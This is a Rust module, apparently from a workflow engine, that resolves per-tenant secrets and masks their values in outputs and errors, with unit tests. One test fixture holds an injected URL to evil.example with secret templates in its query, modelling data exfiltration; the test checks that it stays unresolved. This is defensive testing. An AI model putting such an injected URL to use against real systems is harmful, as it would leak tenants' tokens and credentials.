//! Secrets for node functions: `{{ secrets.NAME }}` resolved for the tenant that owns the
//! execution, and the values scrubbed from everything the function returns.
//!
//! Every node function that takes secrets runs [`resolve_config`] first and passes its result
//! through [`Scrubber::result`] last:
//!
//! ```ignore
//! let Resolved { config, scrubber } = tenant_secrets::resolve_config(&*self.secrets, &event).await?;
//! let outcome = self.work(config, &scrubber).await;
//! scrubber.result(outcome)
//! ```
//!
//! **Where the tenant comes from.** Never from the event's config or the graph: the only input is
//! the execution ARN, which Step Functions writes into the payload (`$$.Execution.Id`, a field the
//! compiler emits and no node config can set) and which the local invoker takes from the engine
//! itself. [`PgSecretResolver`] maps the ARN to its `executions` row, which the api inserts
//! (PENDING, with its tenant) *before* StartExecution and names the execution after (the ARN's
//! last segment is the row id), then checks that the row is that execution: its recorded ARN is
//! unset or equal, and the ARN's state machine is the one the row's workflow version was
//! published as. Only then are that tenant's sealed values read and opened with the deployment
//! key (`WEFT_SECRETS_KEY`; the tenant and name are the AES-GCM associated data). An execution
//! Weft did not start (a child execution of a `workflow` node, one started directly on Step
//! Functions) has no row, so its secrets are `Secret.NotFound`: the lookup fails closed.
//!
//! **Scrubbing.** The resolved values are the needles of a [`Scrubber`]: each value, its
//! JSON-escaped form and the forms the `url` crate writes it in a URL (path, query, form value,
//! userinfo, fragment, lower-case host) are replaced by `***` in the function's error message and
//! in every string (and object key) of its output, so a URL echoed in "connection refused", a
//! header echoed by the server, or a 4xx body quoting the token never reaches execution state,
//! history, events or logs.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use node_contract::{NodeError, NodeEvent, error_names};
use serde_json::Value;
use sqlx::postgres::PgPool;

// Re-exported so callers build a resolver without naming the `secrets` crate.
pub use secrets::SecretsKey;

/// Secret values by name.
pub type Values = BTreeMap<String, String>;

/// Why secrets could not be resolved. Messages name the secret, never its value.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ResolveError {
    #[error("secret `{name}` is not defined in this execution's tenant")]
    NotFound { name: String },
    #[error(
        "secret `{name}`: execution {arn} was not started through Weft's api, so it has no tenant to take secrets from"
    )]
    UnknownExecution { name: String, arn: String },
    #[error("secret `{name}`: this process has no secret store (`weft run` takes them with --secrets FILE)")]
    NoStore { name: String },
    #[error("secret `{name}` is unavailable: {reason}")]
    Unavailable { name: String, reason: String },
}

impl ResolveError {
    /// The node error a function fails with: `Secret.Unavailable` (retryable) for store failures,
    /// `Secret.NotFound` (never retried) for everything else.
    pub fn node_error(&self) -> NodeError {
        let name = match self {
            Self::Unavailable { .. } => error_names::SECRET_UNAVAILABLE,
            _ => error_names::SECRET_NOT_FOUND,
        };
        NodeError::new(name, self.to_string())
    }
}

/// Finds secret values for an execution.
#[async_trait::async_trait]
pub trait SecretResolver: Send + Sync + 'static {
    /// The values of every name in `names` (non-empty) for the tenant owning `execution_arn`,
    /// or the error for the first one that cannot be had.
    async fn resolve(&self, execution_arn: &str, names: &BTreeSet<String>) -> Result<Values, ResolveError>;
}

/// A resolved config and the scrubber for the values that went into it.
#[derive(Debug)]
pub struct Resolved {
    pub config: Value,
    pub scrubber: Scrubber,
}

/// Resolves the `{{ secrets.NAME }}` templates of `event.config` for the execution's tenant
/// (one lookup for all names; none at all when the config has no secret template).
pub async fn resolve_config(resolver: &dyn SecretResolver, event: &NodeEvent) -> Result<Resolved, NodeError> {
    // Only what the graph declared (see `NodeEvent::secrets`); templates data carried in stay text.
    let names: BTreeSet<String> = event.secrets.values().flatten().cloned().collect();
    let mut config = event.config.clone();
    if names.is_empty() {
        return Ok(Resolved { config, scrubber: Scrubber::default() });
    }
    if event.execution.id.is_empty() {
        return Err(NodeError::new(
            error_names::SECRET_NOT_FOUND,
            "execution.id is missing, so the execution's tenant (and its secrets) cannot be found",
        ));
    }
    let values = resolver.resolve(&event.execution.id, &names).await.map_err(|e| e.node_error())?;
    let scrubber = Scrubber::new(values.values().map(String::as_str));
    node_contract::resolve_declared_secrets(&mut config, &event.secrets, &|name| values.get(name).cloned())
        .map_err(|e| scrubber.error(e))?;
    Ok(Resolved { config, scrubber })
}

/// A resolved config, the value of the secret its `connection` field names, and the scrubber
/// for everything resolved (the connection value, and its URL password on its own).
pub struct Connected {
    pub config: Value,
    pub connection: String,
    pub scrubber: Scrubber,
}

impl std::fmt::Debug for Connected {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Connected").field("scrubber", &self.scrubber).finish_non_exhaustive()
    }
}

/// For functions whose config names a connection secret (`"connection": "reports_db"`: a secret
/// holding a database URL, an SMTP URL, a webhook URL or a token): resolves that secret and the
/// config's `{{ secrets.NAME }}` templates in one lookup, for the execution's tenant.
///
/// The name must be a literal secret name in the graph (the compiler refuses a template there),
/// so data flowing through an execution cannot choose which of the tenant's secrets is used.
pub async fn resolve_connection(
    resolver: &dyn SecretResolver,
    event: &NodeEvent,
    field: &str,
) -> Result<Connected, NodeError> {
    let name = match event.config.get(field) {
        Some(Value::String(name)) if valid_name(name) => name.clone(),
        Some(Value::String(name)) => {
            return Err(NodeError::config(
                field,
                format!("`{name}` is not a secret name (letters, digits and `_`, starting with a letter or `_`)"),
            ));
        }
        Some(_) => return Err(NodeError::config(field, "must be the name of a secret holding the connection")),
        None => return Err(NodeError::config(field, "is required: the name of a secret holding the connection")),
    };
    if event.execution.id.is_empty() {
        return Err(NodeError::new(
            error_names::SECRET_NOT_FOUND,
            "execution.id is missing, so the execution's tenant (and its secrets) cannot be found",
        ));
    }
    let mut names: BTreeSet<String> = event.secrets.values().flatten().cloned().collect();
    names.insert(name.clone());
    let values = resolver.resolve(&event.execution.id, &names).await.map_err(|e| e.node_error())?;
    let Some(connection) = values.get(&name).cloned() else {
        return Err(ResolveError::NotFound { name }.node_error());
    };
    // A URL's password also appears alone (drivers and servers quote it without the rest), as
    // written in the URL and decoded.
    let password = url::Url::parse(&connection).ok().and_then(|u| u.password().map(str::to_owned));
    let decoded = password.as_deref().map(percent_decoded);
    let scrubber =
        Scrubber::new(values.values().map(String::as_str).chain(password.as_deref()).chain(decoded.as_deref()));
    let mut config = event.config.clone();
    node_contract::resolve_declared_secrets(&mut config, &event.secrets, &|n| values.get(n).cloned())
        .map_err(|e| scrubber.error(e))?;
    Ok(Connected { config, connection, scrubber })
}

fn percent_decoded(s: &str) -> String {
    url::form_urlencoded::parse(format!("p={s}").as_bytes())
        .next()
        .map(|(_, v)| v.into_owned())
        .unwrap_or_else(|| s.to_owned())
}

/// No secret store: every name is `Secret.NotFound`. The default of functions built without one.
#[derive(Debug, Clone, Copy, Default)]
pub struct NoSecrets;

#[async_trait::async_trait]
impl SecretResolver for NoSecrets {
    async fn resolve(&self, _execution_arn: &str, names: &BTreeSet<String>) -> Result<Values, ResolveError> {
        Err(ResolveError::NoStore { name: names.iter().next().cloned().unwrap_or_default() })
    }
}

/// A fixed set of values, whatever the execution: `weft run` (one user, local) with
/// `--secrets FILE`.
#[derive(Clone, Default)]
pub struct StaticSecrets {
    values: Values,
}

impl std::fmt::Debug for StaticSecrets {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("StaticSecrets").field("names", &self.values.keys().collect::<Vec<_>>()).finish()
    }
}

/// A `--secrets` file that cannot be used. Never quotes the file's content.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FileError {
    #[error("not a JSON object of strings: {0}")]
    Json(String),
    #[error("`{0}`: a JSON secret value must be a string")]
    NotAString(String),
    #[error("line {0}: expected NAME=value (a name is letters, digits and `_`, not starting with a digit)")]
    Line(usize),
    #[error("line {0}: unterminated quoted value")]
    Unterminated(usize),
    #[error("`{0}` is not a valid secret name (letters, digits and `_`, not starting with a digit)")]
    BadName(String),
}

impl StaticSecrets {
    pub fn new(values: Values) -> Self {
        Self { values }
    }

    pub fn names(&self) -> impl Iterator<Item = &str> {
        self.values.keys().map(String::as_str)
    }

    pub fn contains(&self, name: &str) -> bool {
        self.values.contains_key(name)
    }

    /// Parses a secrets file: a JSON object of name → string (when the text starts with `{`), or
    /// dotenv lines: `NAME=value`, optional `export `, `#` comments, blank lines, values in single
    /// quotes (literal) or double quotes (`\n`, `\"`, `\\` escapes) or bare (trimmed).
    pub fn parse(text: &str) -> Result<Self, FileError> {
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        if text.trim_start().starts_with('{') {
            // serde_json's messages give a line and column, never the content.
            let map: serde_json::Map<String, Value> =
                serde_json::from_str(text).map_err(|e| FileError::Json(e.to_string()))?;
            let mut values = Values::new();
            for (k, v) in map {
                if !valid_name(&k) {
                    return Err(FileError::BadName(k));
                }
                match v {
                    Value::String(s) => values.insert(k, s),
                    _ => return Err(FileError::NotAString(k)),
                };
            }
            return Ok(Self { values });
        }
        let mut values = Values::new();
        for (i, line) in text.lines().enumerate() {
            let n = i + 1;
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let line = line.strip_prefix("export ").map(str::trim_start).unwrap_or(line);
            let Some((name, raw)) = line.split_once('=') else { return Err(FileError::Line(n)) };
            let name = name.trim();
            if !valid_name(name) {
                return Err(FileError::Line(n));
            }
            let raw = raw.trim();
            let value = if let Some(rest) = raw.strip_prefix('\'') {
                rest.strip_suffix('\'').ok_or(FileError::Unterminated(n))?.to_owned()
            } else if let Some(rest) = raw.strip_prefix('"') {
                let inner = rest.strip_suffix('"').ok_or(FileError::Unterminated(n))?;
                unescape_double(inner)
            } else {
                raw.to_owned()
            };
            values.insert(name.to_owned(), value);
        }
        Ok(Self { values })
    }
}

fn unescape_double(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('r') => out.push('\r'),
            Some('t') => out.push('\t'),
            Some(other) => out.push(other),
            None => out.push('\\'),
        }
    }
    out
}

/// `[A-Za-z_][A-Za-z0-9_]*`, at most 128 characters: what `/v1/secrets` accepts.
pub fn valid_name(name: &str) -> bool {
    node_contract::valid_secret_name(name)
}

#[async_trait::async_trait]
impl SecretResolver for StaticSecrets {
    async fn resolve(&self, _execution_arn: &str, names: &BTreeSet<String>) -> Result<Values, ResolveError> {
        names
            .iter()
            .map(|n| match self.values.get(n) {
                Some(v) => Ok((n.clone(), v.clone())),
                None => Err(ResolveError::NotFound { name: n.clone() }),
            })
            .collect()
    }
}

/// The tenant's sealed secrets in Postgres (`secrets`, written by `POST /v1/secrets`), found
/// through the execution's `executions` row. No cache: a deleted or replaced secret takes effect
/// on the next call, and a call costs two indexed reads.
#[derive(Clone)]
pub struct PgSecretResolver {
    pool: PgPool,
    key: Arc<secrets::SecretsKey>,
}

impl std::fmt::Debug for PgSecretResolver {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("PgSecretResolver")
    }
}

/// The resolver's settings from the environment are missing or bad.
#[derive(Debug, thiserror::Error)]
pub enum EnvError {
    #[error("{0} must be set: node functions read the tenant's secrets from Postgres")]
    Missing(&'static str),
    #[error("WEFT_SECRETS_KEY must be 32 bytes in base64 (e.g. `openssl rand -base64 32`)")]
    BadKey,
    #[error("WEFT_DATABASE_URL: {0}")]
    Database(#[from] sqlx::Error),
}

impl PgSecretResolver {
    pub fn new(pool: PgPool, key: secrets::SecretsKey) -> Self {
        Self { pool, key: Arc::new(key) }
    }

    /// `WEFT_DATABASE_URL` (connected lazily, at most 2 connections per process, as a Lambda
    /// needs) and `WEFT_SECRETS_KEY`.
    pub fn from_env() -> Result<Self, EnvError> {
        use base64::Engine as _;
        let url = std::env::var("WEFT_DATABASE_URL").map_err(|_| EnvError::Missing("WEFT_DATABASE_URL"))?;
        let key = std::env::var("WEFT_SECRETS_KEY").map_err(|_| EnvError::Missing("WEFT_SECRETS_KEY"))?;
        let key = [base64::engine::general_purpose::STANDARD, base64::engine::general_purpose::STANDARD_NO_PAD]
            .iter()
            .find_map(|e| e.decode(key.trim()).ok())
            .and_then(|b| <[u8; 32]>::try_from(b).ok())
            .ok_or(EnvError::BadKey)?;
        let pool = sqlx::postgres::PgPoolOptions::new().max_connections(2).connect_lazy(&url)?;
        Ok(Self::new(pool, secrets::SecretsKey::new(&key)))
    }

    /// The tenant owning `execution_arn`, or `None` when Weft did not start it (see the crate
    /// docs for the checks). Not tenant-scoped: this is how the tenant is found.
    pub async fn tenant_of(&self, execution_arn: &str) -> Result<Option<String>, sqlx::Error> {
        // Standard or EXPRESS (`...:express:<state machine>:<name>:<run>`): the name is the row id.
        let Ok(arn) = arn::ExecutionArn::parse(execution_arn) else { return Ok(None) };
        let Ok(id) = uuid::Uuid::parse_str(arn.name) else { return Ok(None) };
        let row: Option<(String, Option<String>, Option<String>)> = sqlx::query_as(
            "SELECT e.tenant_id, e.execution_arn, v.state_machine_arn FROM executions e \
             JOIN workflow_versions v ON v.workflow_id = e.workflow_id AND v.version = e.version WHERE e.id = $1",
        )
        .bind(id)
        .fetch_optional(&self.pool)
        .await?;
        Ok(row.and_then(|(tenant, recorded, machine)| {
            let same_execution = recorded.is_none_or(|r| r == execution_arn);
            let machine = machine.as_deref().and_then(|m| arn::StateMachineArn::parse(m).ok());
            let same_machine = machine.map(|m| m.name) == Some(arn.state_machine);
            (same_execution && same_machine).then_some(tenant)
        }))
    }
}

#[async_trait::async_trait]
impl SecretResolver for PgSecretResolver {
    async fn resolve(&self, execution_arn: &str, names: &BTreeSet<String>) -> Result<Values, ResolveError> {
        let first = names.iter().next().cloned().unwrap_or_default();
        let unavailable = |name: &str, e: sqlx::Error| ResolveError::Unavailable {
            name: name.to_owned(),
            reason: format!("the secret store cannot be read ({e})"),
        };
        let tenant = match self.tenant_of(execution_arn).await {
            Ok(Some(t)) => t,
            Ok(None) => return Err(ResolveError::UnknownExecution { name: first, arn: execution_arn.to_owned() }),
            Err(e) => return Err(unavailable(&first, e)),
        };
        let wanted: Vec<String> = names.iter().cloned().collect();
        let rows: Vec<(String, Vec<u8>, Vec<u8>)> =
            sqlx::query_as("SELECT name, nonce, ciphertext FROM secrets WHERE tenant_id = $1 AND name = ANY($2)")
                .bind(&tenant)
                .bind(&wanted)
                .fetch_all(&self.pool)
                .await
                .map_err(|e| unavailable(&first, e))?;
        let mut sealed: BTreeMap<String, secrets::Sealed> =
            rows.into_iter().map(|(name, nonce, ciphertext)| (name, secrets::Sealed { nonce, ciphertext })).collect();
        let mut values = Values::new();
        for name in names {
            let Some(s) = sealed.remove(name) else { return Err(ResolveError::NotFound { name: name.clone() }) };
            let plain = self
                .key
                .open(&tenant, name, &s)
                .map_err(|e| ResolveError::Unavailable { name: name.clone(), reason: e.to_string() })?;
            let text = String::from_utf8(plain).map_err(|_| ResolveError::Unavailable {
                name: name.clone(),
                reason: "the stored value is not UTF-8 text".to_owned(),
            })?;
            values.insert(name.clone(), text);
        }
        Ok(values)
    }
}

/// Replaces resolved secret values with `***`. Built per invocation from the values that
/// invocation resolved; empty (and free) when it resolved none.
#[derive(Clone, Default)]
pub struct Scrubber {
    /// Every form of every value, longest first so a value containing another is replaced whole.
    needles: Vec<String>,
}

impl std::fmt::Debug for Scrubber {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Scrubber({} needles)", self.needles.len())
    }
}

/// What a scrubbed value reads as.
pub const MASK: &str = "***";

impl Scrubber {
    pub fn new<'a>(values: impl IntoIterator<Item = &'a str>) -> Self {
        let mut needles: Vec<String> = values.into_iter().filter(|v| !v.is_empty()).flat_map(forms).collect();
        needles.retain(|n| !n.is_empty() && n != MASK);
        needles.sort_by(|a, b| b.len().cmp(&a.len()).then_with(|| a.cmp(b)));
        needles.dedup();
        Self { needles }
    }

    pub fn is_empty(&self) -> bool {
        self.needles.is_empty()
    }

    /// Whether `s` contains any form of any value.
    pub fn contains(&self, s: &str) -> bool {
        self.needles.iter().any(|n| s.contains(n.as_str()))
    }

    pub fn text(&self, s: &str) -> String {
        let mut out = s.to_owned();
        self.scrub_string(&mut out);
        out
    }

    pub fn scrub_string(&self, s: &mut String) {
        for n in &self.needles {
            if s.contains(n.as_str()) {
                *s = s.replace(n.as_str(), MASK);
            }
        }
    }

    /// Scrubs every string and object key of `value`, without recursion.
    pub fn value(&self, value: &mut Value) {
        if self.needles.is_empty() {
            return;
        }
        let mut stack = vec![value];
        while let Some(v) = stack.pop() {
            match v {
                Value::String(s) => self.scrub_string(s),
                Value::Array(items) => stack.extend(items.iter_mut()),
                Value::Object(map) => {
                    if map.keys().any(|k| self.contains(k)) {
                        let old = std::mem::take(map);
                        for (k, v) in old {
                            map.insert(self.text(&k), v);
                        }
                    }
                    stack.extend(map.values_mut());
                }
                _ => {}
            }
        }
    }

    pub fn error(&self, mut error: NodeError) -> NodeError {
        self.scrub_string(&mut error.message);
        error
    }

    /// A function's outcome with every value scrubbed from its output or its error.
    pub fn result(&self, outcome: Result<Value, NodeError>) -> Result<Value, NodeError> {
        match outcome {
            Ok(mut v) => {
                self.value(&mut v);
                Ok(v)
            }
            Err(e) => Err(self.error(e)),
        }
    }
}

/// The forms a value takes in what a function returns: as is, percent-encoded in each part of a
/// URL the way the `url` crate (and so reqwest's errors) writes it, fully percent-encoded
/// (`encodeURIComponent`), lower-cased (a URL's host), and each of those JSON-escaped once and
/// twice (a JSON body quoted inside a JSON string, as an echoing server returns it).
fn forms(value: &str) -> Vec<String> {
    let mut base = vec![value.to_owned()];
    if let Ok(root) = url::Url::parse("http://h/") {
        let mut u = root.clone();
        if let Ok(mut segments) = u.path_segments_mut() {
            segments.clear().push(value);
        }
        base.push(u.path().trim_start_matches('/').to_owned());
        let mut u = root.clone();
        u.set_path(value);
        base.push(u.path().trim_start_matches('/').to_owned());
        let mut u = root.clone();
        u.set_query(Some(value));
        base.extend(u.query().map(str::to_owned));
        let mut u = root.clone();
        u.set_fragment(Some(value));
        base.extend(u.fragment().map(str::to_owned));
        let mut u = root.clone();
        if u.set_password(Some(value)).is_ok() {
            base.extend(u.password().map(str::to_owned));
        }
        let mut u = root;
        if u.set_username(value).is_ok() {
            base.push(u.username().to_owned());
        }
    }
    base.push(url::form_urlencoded::byte_serialize(value.as_bytes()).collect());
    base.push(
        value
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect(),
    );
    base.push(value.to_ascii_lowercase());
    let mut out = Vec::with_capacity(base.len() * 3);
    for form in base {
        let once = json_escaped(&form);
        let twice = json_escaped(&once);
        out.extend([form, once, twice]);
    }
    out
}

/// `s` as it reads inside a JSON string literal (without the quotes).
fn json_escaped(s: &str) -> String {
    let quoted = serde_json::Value::String(s.to_owned()).to_string();
    quoted[1..quoted.len() - 1].to_owned()
}

/// Secret rows as the api writes them, for tests of functions that resolve secrets (no api needed).
/// Test support only (feature `test-util`).
#[cfg(feature = "test-util")]
pub mod testing {
    use secrets::SecretsKey;
    use sqlx::PgPool;

    /// Stores `secrets` of `tenant` (which must exist) sealed with `key`, as `/v1/secrets` does.
    /// Workflows and executions to resolve them for: `store::testing`.
    pub async fn store_secrets(
        pool: &PgPool,
        key: &SecretsKey,
        tenant: &str,
        secrets: &[(&str, &str)],
    ) -> Result<(), Box<dyn std::error::Error>> {
        for (name, value) in secrets {
            let sealed = key.seal(tenant, name, value.as_bytes())?;
            sqlx::query("INSERT INTO secrets (tenant_id, name, nonce, ciphertext) VALUES ($1, $2, $3, $4)")
                .bind(tenant)
                .bind(name)
                .bind(&sealed.nonce)
                .bind(&sealed.ciphertext)
                .execute(pool)
                .await?;
        }
        Ok(())
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn scrubs_every_form_in_errors_and_outputs() {
        let secret = "s3cr3t/Tok en\"&?=#";
        let s = Scrubber::new([secret, ""]);
        let url = {
            let mut u = url::Url::parse("http://127.0.0.1:1/").unwrap();
            u.path_segments_mut().unwrap().push(secret);
            u.query_pairs_mut().append_pair("k", secret);
            u.to_string()
        };
        let e =
            s.error(NodeError::new("Http.Connect", format!("GET {url}: connection refused; body {}", json!(secret))));
        assert!(!e.message.contains("s3cr3t"), "{}", e.message);
        assert!(
            e.message.starts_with("GET http://127.0.0.1:1/***?k=***: connection refused; body \"***\""),
            "{}",
            e.message
        );
        let mut out =
            json!({"headers": {"authorization": format!("Bearer {secret}")}, secret: [1, {"x": secret}], "n": 1});
        s.value(&mut out);
        assert_eq!(out, json!({"headers": {"authorization": "Bearer ***"}, "***": [1, {"x": "***"}], "n": 1}));
        // Nothing to scrub: outputs pass unchanged.
        let mut plain = json!({"a": "b"});
        Scrubber::default().value(&mut plain);
        assert_eq!(plain, json!({"a": "b"}));
    }

    #[test]
    fn a_value_containing_another_is_replaced_whole() {
        let s = Scrubber::new(["abc", "xabcx"]);
        assert_eq!(s.text("1 xabcx 2 abc"), "1 *** 2 ***");
    }

    #[test]
    fn deep_outputs_are_scrubbed_without_recursion() {
        let s = Scrubber::new(["tok"]);
        let mut deep = json!("tok");
        for _ in 0..100_000 {
            deep = Value::Array(vec![deep]);
        }
        s.value(&mut deep);
        let mut v = &deep;
        while let Value::Array(a) = v {
            v = &a[0];
        }
        assert_eq!(v, "***");
        std::mem::forget(deep);
    }

    #[test]
    fn secrets_files_are_json_or_dotenv() {
        let json = StaticSecrets::parse(r#"{"TOKEN": "a b", "_X1": ""}"#).unwrap();
        assert_eq!(json.names().collect::<Vec<_>>(), ["TOKEN", "_X1"]);
        let env = StaticSecrets::parse(
            "# comment\n\nexport TOKEN = 'lit $x \"q\"'\nB=\"l1\\nl2 \\\"q\\\"\"\n  C = bare value  \nD=a=b\n",
        )
        .unwrap();
        assert_eq!(env.values["TOKEN"], "lit $x \"q\"");
        assert_eq!(env.values["B"], "l1\nl2 \"q\"");
        assert_eq!(env.values["C"], "bare value");
        assert_eq!(env.values["D"], "a=b");
        // Errors name the line or the key, never the value.
        assert_eq!(StaticSecrets::parse("A=1\nnot a line hunter2\n").unwrap_err(), FileError::Line(2));
        assert_eq!(StaticSecrets::parse("A='hunter2\n").unwrap_err(), FileError::Unterminated(1));
        assert_eq!(StaticSecrets::parse("A=\"\n").unwrap_err(), FileError::Unterminated(1));
        assert_eq!(StaticSecrets::parse(r#"{"A": 1}"#).unwrap_err(), FileError::NotAString("A".into()));
        assert_eq!(StaticSecrets::parse(r#"{"a-b": "x"}"#).unwrap_err(), FileError::BadName("a-b".into()));
        let err = StaticSecrets::parse(r#"{"A": "hunter2""#).unwrap_err().to_string();
        assert!(!err.contains("hunter2"), "{err}");
    }

    #[tokio::test]
    async fn static_and_empty_resolvers() {
        let s = StaticSecrets::parse("TOKEN=t0k\n").unwrap();
        let names: BTreeSet<String> = ["TOKEN".to_owned()].into();
        assert_eq!(s.resolve("any", &names).await.unwrap()["TOKEN"], "t0k");
        let missing: BTreeSet<String> = ["TOKEN".to_owned(), "NOPE".to_owned()].into();
        let err = s.resolve("any", &missing).await.unwrap_err();
        assert_eq!(err, ResolveError::NotFound { name: "NOPE".into() });
        assert_eq!(err.node_error().name, "Secret.NotFound");
        assert_eq!(NoSecrets.resolve("any", &names).await.unwrap_err().node_error().name, "Secret.NotFound");
        let unavailable = ResolveError::Unavailable { name: "T".into(), reason: "down".into() };
        assert_eq!(unavailable.node_error().name, "Secret.Unavailable");
    }

    #[tokio::test]
    async fn resolve_config_substitutes_and_scrubs() {
        let config = json!({"url": "http://h/{{ secrets.TOKEN }}", "method": "{{ secrets.NOPE }}"});
        let event = NodeEvent::from_value(json!({"node": {"id": "n", "type": "http"}, "execution": {"id": "arn:x"},
            "secrets": node_contract::secret_refs(&config), "config": config}))
        .unwrap();
        let err = resolve_config(&StaticSecrets::parse("TOKEN=t0k").unwrap(), &event).await.unwrap_err();
        assert_eq!(err.name, "Secret.NotFound");
        assert!(err.message.contains("NOPE"));
        let r = resolve_config(&StaticSecrets::parse("TOKEN=t0k\nNOPE=GET").unwrap(), &event).await.unwrap();
        assert_eq!(r.config, json!({"url": "http://h/t0k", "method": "GET"}));
        assert_eq!(r.scrubber.text("t0k GET"), "*** ***");
        // No secret templates: no lookup at all (NoSecrets would fail one).
        let plain = NodeEvent::from_value(json!({"node": {"id": "n", "type": "http"}, "config": {"url": "http://h/"}}))
            .unwrap();
        assert!(resolve_config(&NoSecrets, &plain).await.unwrap().scrubber.is_empty());
    }

    #[tokio::test]
    async fn templates_that_data_carried_in_are_never_resolved() {
        // The graph templated `{{ input.url }}` into `url` and a secret into `headers.a`; the
        // input's URL itself holds a secret template (an attacker's webhook body, say).
        let event = NodeEvent::from_value(json!({"node": {"id": "n", "type": "http"}, "execution": {"id": "arn:x"},
            "secrets": {"/headers/a": ["TOKEN"]},
            "config": {"url": "https://evil.example/?k={{ secrets.TOKEN }}&d={{ secrets.DB }}",
                       "headers": {"a": "Bearer {{ secrets.TOKEN }} {{ secrets.DB }}"}}}))
        .unwrap();
        let r = resolve_config(&StaticSecrets::parse("TOKEN=t0k\nDB=pw").unwrap(), &event).await.unwrap();
        assert_eq!(r.config["url"], "https://evil.example/?k={{ secrets.TOKEN }}&d={{ secrets.DB }}");
        assert_eq!(r.config["headers"]["a"], "Bearer t0k {{ secrets.DB }}", "only the declared name, only there");
    }
}
